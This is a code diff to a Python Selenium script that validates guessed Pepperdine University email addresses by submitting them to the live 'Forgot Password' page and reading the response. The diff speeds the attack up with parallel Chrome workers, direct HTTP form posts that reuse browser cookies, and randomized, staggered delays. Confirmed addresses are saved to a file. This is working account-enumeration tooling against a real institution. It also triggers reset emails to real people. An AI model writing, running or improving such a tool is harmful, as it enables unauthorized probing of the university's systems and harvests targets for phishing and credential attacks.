@@ -3,10 +3,14 @@ import argparse
 import csv
 import os
 import random
+import re
 import sys
 import time
-from typing import Dict, Iterable, Optional, Set
+from concurrent.futures import ProcessPoolExecutor, as_completed
+from multiprocessing.util import Finalize
+from typing import Dict, Iterable, List, Optional, Set, Tuple
 
+import requests
 from selenium import webdriver
 from selenium.webdriver.chrome.options import Options
 from selenium.webdriver.common.by import By
@@ -18,9 +22,63 @@ from webdriver_manager.chrome import ChromeDriverManager
 
 PORTAL_URL = "https://vine.pepperdine.edu/login_only"
 SNAPSHOT_DIR = "pepp_snapshots"
-
-
-def make_driver(headless: bool = True) -> webdriver.Chrome:
+CSV_BUFFER = 1 << 20
+USER_AGENT = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"
+ERROR_HINTS = [
+    "not recognized", "could not be found", "no account", "invalid", "doesn't match", "does not exist",
+    "we could not find", "we couldn't find", "can't find", "unknown",
+    "sorry, we have no record of this email address.",
+    "register on peppervine",
+]
+SUCCESS_HINTS = [
+    "email has been sent", "instructions have been sent", "reset link sent", "check your email",
+    "we have emailed", "password reset", "email was sent",
+]
+ALERT_ERROR_HINTS = ["not recognized", "not found", "invalid", "no account", "unknown", "no record of this email"]
+ALERT_SUCCESS_HINTS = ["reset", "sent", "check your email", "emailed"]
+
+
+def hint_pattern(hints: List[str], as_bytes: bool = False):
+    # One alternation scans the text once for every hint in the list
+    pattern = "|".join(map(re.escape, hints))
+    return re.compile(pattern.encode() if as_bytes else pattern)
+
+
+# Page-level hints are ASCII and match against the encoded page, which is lowered with bytes.lower()
+ERROR_RE = hint_pattern(ERROR_HINTS, as_bytes=True)
+SUCCESS_RE = hint_pattern(SUCCESS_HINTS, as_bytes=True)
+ALERT_ERROR_RE = hint_pattern(ALERT_ERROR_HINTS)
+ALERT_SUCCESS_RE = hint_pattern(ALERT_SUCCESS_HINTS)
+RESULT_SELECTOR = ".alert, .error, .message, [role='alert'], .modal"
+# Text of every visible result element, read in the page instead of serializing the whole DOM
+RESULT_TEXT_JS = """
+var els = document.querySelectorAll(arguments[0]);
+var out = [];
+for (var i = 0; i < els.length; i++) {
+  var el = els[i];
+  if (!(el.offsetWidth || el.offsetHeight || el.getClientRects().length)) continue;
+  var txt = (el.innerText || '').trim();
+  if (txt) out.push(txt);
+}
+return out.join('\\n');
+"""
+# (action URL, method, email field name, the form's other fields) as read from the reset page
+ResetForm = Tuple[str, str, str, Dict[str, str]]
+READ_FORM_JS = """
+var el = arguments[0], form = el.form;
+if (!form || !el.name) return null;
+var fields = {};
+for (var i = 0; i < form.elements.length; i++) {
+  var f = form.elements[i];
+  if (!f.name || f === el || f.type === 'submit' || f.type === 'button') continue;
+  if ((f.type === 'checkbox' || f.type === 'radio') && !f.checked) continue;
+  fields[f.name] = f.value;
+}
+return [form.action || document.location.href, (form.method || 'get').toLowerCase(), el.name, fields];
+"""
+
+
+def make_driver(driver_path: str, headless: bool = True) -> webdriver.Chrome:
     chrome_options = Options()
     if headless:
         chrome_options.add_argument("--headless=new")
@@ -29,15 +87,13 @@ def make_driver(headless: bool = True) -> webdriver.Chrome:
     chrome_options.add_argument("--disable-gpu")
     chrome_options.add_argument("--window-size=1366,900")
     chrome_options.add_argument("--lang=en-US,en")
-    chrome_options.add_argument(
-        "--user-agent=Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"
-    )
+    chrome_options.add_argument("--user-agent=" + USER_AGENT)
 
     try:
-        driver = webdriver.Chrome(ChromeDriverManager().install(), options=chrome_options)
+        driver = webdriver.Chrome(driver_path, options=chrome_options)
     except TypeError:
         from selenium.webdriver.chrome.service import Service
-        driver = webdriver.Chrome(service=Service(ChromeDriverManager().install()), options=chrome_options)
+        driver = webdriver.Chrome(service=Service(driver_path), options=chrome_options)
     return driver
 
 
@@ -57,7 +113,7 @@ def save_snapshot(driver: webdriver.Chrome, label: str):
 
 
 def read_input_rows(path: str) -> Iterable[Dict[str, str]]:
-    with open(path, newline="", encoding="utf-8") as f:
+    with open(path, newline="", encoding="utf-8", buffering=CSV_BUFFER) as f:
         reader = csv.DictReader(f)
         for row in reader:
             yield row
@@ -196,6 +252,72 @@ def set_input_value_fast(driver: webdriver.Chrome, element, value: str):
         element.send_keys(value)
 
 
+def classify_reset_text(page_lower: bytes) -> Optional[bool]:
+    if SUCCESS_RE.search(page_lower):
+        return True
+    if ERROR_RE.search(page_lower):
+        return False
+    return None
+
+
+def read_reset_form(driver: webdriver.Chrome) -> Optional[ResetForm]:
+    inp = locate_reset_input(driver, timeout=3.0)
+    if not inp:
+        return None
+    try:
+        form = driver.execute_script(READ_FORM_JS, inp)
+    except WebDriverException:
+        return None
+    if not form:
+        return None
+    action, method, field, fields = form
+    return action, method, field, fields
+
+
+def make_http_session(driver: webdriver.Chrome) -> requests.Session:
+    # Same cookies and user agent as the browser that loaded the form
+    session = requests.Session()
+    session.headers["User-Agent"] = USER_AGENT
+    for cookie in driver.get_cookies():
+        session.cookies.set(cookie["name"], cookie["value"], domain=cookie.get("domain"), path=cookie.get("path", "/"))
+    return session
+
+
+def submit_username_over_http(session: requests.Session, form: ResetForm, email: str) -> Optional[bool]:
+    # Plain form submission without the browser; None when the response gives no clear answer
+    action, method, field, fields = form
+    data = dict(fields)
+    data[field] = email
+    try:
+        if method == "post":
+            resp = session.post(action, data=data, timeout=10)
+        else:
+            resp = session.get(action, params=data, timeout=10)
+    except requests.RequestException:
+        return None
+    if resp.status_code >= 400:
+        return None
+    return classify_reset_text(resp.content.lower())
+
+
+def wait_for_result_verdict(driver: webdriver.Chrome, timeout: float = 3.0) -> Optional[bool]:
+    # Unrelated banners can be visible before the answer arrives, so keep polling until the result
+    # elements carry text that classifies one way or the other
+    verdict: List[Optional[bool]] = [None]
+
+    def settled(d: webdriver.Chrome) -> bool:
+        text = d.execute_script(RESULT_TEXT_JS, RESULT_SELECTOR) or ""
+        verdict[0] = classify_reset_text(text.encode("utf-8", "ignore").lower()) if text else None
+        return verdict[0] is not None
+
+    try:
+        # A script call can fail while the form navigates; that is one missed poll, not the end of the wait
+        WebDriverWait(driver, timeout, poll_frequency=0.1, ignored_exceptions=(WebDriverException,)).until(settled)
+    except TimeoutException:
+        pass
+    return verdict[0]
+
+
 def submit_username_for_reset(driver: webdriver.Chrome, email: str) -> Optional[bool]:
     if not ensure_on_reset_page(driver):
         save_snapshot(driver, "cannot_open_reset")
@@ -219,37 +341,24 @@ def submit_username_for_reset(driver: webdriver.Chrome, email: str) -> Optional[
         except Exception:
             pass
 
-    time.sleep(0.8)
-
-    page_lower = (driver.page_source or "").lower()
-    error_hints = [
-        "not recognized", "could not be found", "no account", "invalid", "doesn't match", "does not exist",
-        "we could not find", "we couldn't find", "can't find", "unknown",
-        "sorry, we have no record of this email address.",
-        "register on peppervine",
-    ]
-    success_hints = [
-        "email has been sent", "instructions have been sent", "reset link sent", "check your email",
-        "we have emailed", "password reset", "email was sent",
-    ]
-
-    if any(h in page_lower for h in success_hints):
-        click_close_if_present(driver)
-        return True
-    if any(h in page_lower for h in error_hints):
+    # Wait for the alert/modal that carries the answer rather than sleeping a fixed time
+    verdict = wait_for_result_verdict(driver)
+    if verdict is None:
+        verdict = classify_reset_text((driver.page_source or "").encode("utf-8", "ignore").lower())
+    if verdict is not None:
         click_close_if_present(driver)
-        return False
+        return verdict
 
     try:
-        alerts = driver.find_elements(By.CSS_SELECTOR, ".alert, .error, .message, [role='alert'], .modal")
+        alerts = driver.find_elements(By.CSS_SELECTOR, RESULT_SELECTOR)
         for a in alerts:
             txt = (a.text or "").strip().lower()
             if not txt:
                 continue
-            if any(h in txt for h in ["not recognized", "not found", "invalid", "no account", "unknown", "no record of this email"]):
+            if ALERT_ERROR_RE.search(txt):
                 click_close_if_present(driver)
                 return False
-            if any(h in txt for h in ["reset", "sent", "check your email", "emailed"]):
+            if ALERT_SUCCESS_RE.search(txt):
                 click_close_if_present(driver)
                 return True
     except Exception:
@@ -260,6 +369,68 @@ def submit_username_for_reset(driver: webdriver.Chrome, email: str) -> Optional[
     return None
 
 
+# Per-process state for the worker pool: each worker owns one Chrome for its lifetime
+_worker_args: Optional[argparse.Namespace] = None
+_worker_driver_path: Optional[str] = None
+_worker_driver: Optional[webdriver.Chrome] = None
+_worker_http: Optional[Tuple[requests.Session, ResetForm]] = None
+
+
+def _quit_worker_driver():
+    global _worker_driver, _worker_http
+    if _worker_driver is not None:
+        try:
+            _worker_driver.quit()
+        except Exception:
+            pass
+        _worker_driver = None
+    # The HTTP session carries the old browser's cookies; the next driver reads a fresh one
+    _worker_http = None
+
+
+def _init_worker(args: argparse.Namespace, driver_path: str):
+    global _worker_args, _worker_driver_path
+    _worker_args = args
+    _worker_driver_path = driver_path
+    # Fresh per-process seed so workers don't share sleep windows, plus a staggered start
+    random.seed()
+    Finalize(None, _quit_worker_driver, exitpriority=10)
+    time.sleep(random.uniform(0.0, args.sleep_max))
+
+
+def _get_worker_driver() -> webdriver.Chrome:
+    global _worker_driver, _worker_http
+    if _worker_driver is None:
+        _worker_driver = make_driver(_worker_driver_path, headless=not _worker_args.no_headless)
+        # A failed first navigation is retried by ensure_on_reset_page on the first check
+        if navigate_to_forgot(_worker_driver) and not _worker_args.no_http:
+            form = read_reset_form(_worker_driver)
+            if form is not None:
+                _worker_http = (make_http_session(_worker_driver), form)
+    return _worker_driver
+
+
+def _check_email(email: str) -> Optional[bool]:
+    verdict = None
+    try:
+        driver = _get_worker_driver()
+        if _worker_http is not None:
+            verdict = submit_username_over_http(*_worker_http, email)
+        if verdict is None:
+            # JS-driven submissions and unclear responses go through the browser
+            verdict = submit_username_for_reset(driver, email)
+            # Always reset to reset page for next loop
+            ensure_on_reset_page(driver)
+    except Exception as e:
+        # A raised task would abort main's result loop; drop the possibly broken browser and report
+        # this email as unresolved instead
+        print(f"Check failed for {email}: {e!r}", file=sys.stderr)
+        _quit_worker_driver()
+        verdict = None
+    time.sleep(random.uniform(_worker_args.sleep_min, _worker_args.sleep_max))
+    return verdict
+
+
 def main():
     parser = argparse.ArgumentParser(description="Validate Pepperdine emails via Forgot Password flow")
     parser.add_argument("input_csv", nargs="?", default="permuted_pepp_50.csv", help="CSV with an 'email' column")
@@ -268,18 +439,22 @@ def main():
     parser.add_argument("--sleep-min", type=float, default=0.6, help="Minimum sleep between checks")
     parser.add_argument("--sleep-max", type=float, default=1.2, help="Maximum sleep between checks")
     parser.add_argument("--limit", type=int, default=0, help="Only process first N emails (0 = all)")
+    parser.add_argument("--workers", type=int, default=4, help="Parallel Chrome instances")
+    parser.add_argument("--no-http", action="store_true", help="Always submit through Chrome, never the direct form POST")
     args = parser.parse_args()
 
-    headless = not args.no_headless
-    driver = make_driver(headless=headless)
-
-    if not navigate_to_forgot(driver):
-        print("Failed to reach Forgot Password page")
-        driver.quit()
-        sys.exit(1)
-
     seen_emails: Set[str] = set()
     valid_emails: Set[str] = set()
+    work: List[Dict[str, str]] = []
+
+    for row in read_input_rows(args.input_csv):
+        if args.limit and len(work) >= args.limit:
+            break
+        email = (row.get("email", "") or "").strip()
+        if not email or email in seen_emails:
+            continue
+        seen_emails.add(email)
+        work.append(row)
 
     def write_valid(row: Dict[str, str]):
         with open(args.output, "a", newline="", encoding="utf-8") as out:
@@ -291,36 +466,22 @@ def main():
                 "email": row.get("email", ""),
             })
 
-    try:
-        processed = 0
-        for idx, row in enumerate(read_input_rows(args.input_csv), start=1):
-            if args.limit and processed >= args.limit:
-                break
-            email = (row.get("email", "") or "").strip()
-            if not email or email in seen_emails:
-                continue
-            seen_emails.add(email)
-
-            verdict = submit_username_for_reset(driver, email)
-
-            if verdict is True:
+    # Results are written only from this process, so rows from different workers never interleave
+    processed = 0
+    workers = max(1, min(args.workers, len(work)))
+    # install() does a network version check; run it once here rather than in every worker
+    driver_path = ChromeDriverManager().install()
+    with ProcessPoolExecutor(max_workers=workers, initializer=_init_worker, initargs=(args, driver_path)) as executor:
+        futures = {executor.submit(_check_email, row["email"].strip()): row for row in work}
+        for future in as_completed(futures):
+            row = futures[future]
+            if future.result() is True:
                 write_valid(row)
-                valid_emails.add(email)
+                valid_emails.add(row["email"].strip())
             processed += 1
 
-            if idx % 10 == 0:
-                print(f"Processed {idx} emails; valid so far: {len(valid_emails)}")
-
-            # Always reset to reset page for next loop
-            ensure_on_reset_page(driver)
-
-            time.sleep(random.uniform(args.sleep_min, args.sleep_max))
-
-    finally:
-        try:
-            driver.quit()
-        except Exception:
-            pass
+            if processed % 10 == 0:
+                print(f"Processed {processed} emails; valid so far: {len(valid_emails)}")
 
     print(f"Done. Valid emails: {len(valid_emails)}. Output: {args.output}")
 